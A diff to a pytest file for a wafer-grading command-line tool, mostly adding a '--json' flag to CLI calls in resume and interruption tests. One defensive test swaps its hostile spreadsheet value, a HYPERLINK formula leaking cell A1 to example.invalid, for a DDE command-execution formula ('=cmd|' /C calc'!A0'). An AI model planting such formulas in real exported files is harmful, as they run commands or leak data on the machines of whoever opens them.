@@ -28,7 +28,7 @@ from tests.conftest import REPO_ROOT, pool_workers, run_cli, survivors
 @pytest.fixture(scope="module")
 def graded(graded_lot_source: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict]:
     out = tmp_path_factory.mktemp("graded")
-    process = run_cli("grade", str(graded_lot_source), "--out", str(out), "--workers", "2", cwd=REPO_ROOT,
+    process = run_cli("grade", str(graded_lot_source), "--out", str(out), "--workers", "2", "--json", cwd=REPO_ROOT,
                       timeout=300)
     return out, json.loads(process.stdout)
 
@@ -182,8 +182,8 @@ def test_interrupted_run_resumes_to_the_same_result(graded: tuple[Path, dict], l
         process.wait(timeout=30)
     partial = _wafer_state(db)
     assert 2 <= len(partial) < 7
-    resumed = run_cli("grade", str(lot_copy), "--out", str(out), "--workers", "2", "--quiet", cwd=REPO_ROOT,
-                      timeout=300)
+    resumed = run_cli("grade", str(lot_copy), "--out", str(out), "--workers", "2", "--quiet", "--json",
+                      cwd=REPO_ROOT, timeout=300)
     summary = json.loads(resumed.stdout)
     assert summary["skipped_already_graded"] == len(partial) and summary["graded_now"] == 7 - len(partial)
     assert _wafer_state(db) == _wafer_state(reference / "grade.sqlite")
@@ -226,7 +226,7 @@ def test_ctrl_c_commits_the_graded_wafers_ends_the_pool_and_the_lot_resumes(lot_
     assert f"{len(reported)} wafer(s) graded now and committed" in stderr
     with sqlite3.connect(out / "grade.sqlite") as connection:
         assert connection.execute("SELECT status FROM grade_runs").fetchall() == [("interrupted",)]
-    resumed = json.loads(run_cli("grade", str(lot_copy), "--out", str(out), "--quiet", cwd=REPO_ROOT,
+    resumed = json.loads(run_cli("grade", str(lot_copy), "--out", str(out), "--quiet", "--json", cwd=REPO_ROOT,
                                  timeout=300).stdout)
     assert resumed["skipped_already_graded"] == len(reported) and resumed["graded_now"] == 7 - len(reported)
 
@@ -254,7 +254,7 @@ def test_ray_engine_gives_the_local_result(graded: tuple[Path, dict], graded_lot
 
 
 def test_a_formula_in_a_manifest_never_reaches_a_spreadsheet_as_one(graded_lot_source: Path, tmp_path: Path) -> None:
-    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    hostile = "=cmd|' /C calc'!A0"  # DDE; a double quote is refused in ids (KLARF cannot carry it)
     manifest = tmp_path / "hostile.csv"
     with manifest.open("w", newline="", encoding="utf-8") as handle:
         csv.writer(handle).writerows([("image", "wafer_id", "lot_id"),
@@ -303,7 +303,7 @@ def test_a_full_disk_ends_grading_with_one_line_and_every_graded_wafer_kept(lot_
     assert "grade.sqlite" in error and "cannot write" in error
     kept = read_wafers(out / "grade.sqlite")
     assert 1 <= len(kept) < 7  # whole wafers only; a re-run with room grades the rest
-    resumed = json.loads(run_cli("grade", str(lot_copy), "--out", str(out), "--quiet", cwd=REPO_ROOT,
+    resumed = json.loads(run_cli("grade", str(lot_copy), "--out", str(out), "--quiet", "--json", cwd=REPO_ROOT,
                                  timeout=300).stdout)
     assert resumed["skipped_already_graded"] == len(kept) and resumed["graded_now"] == 7 - len(kept)
 
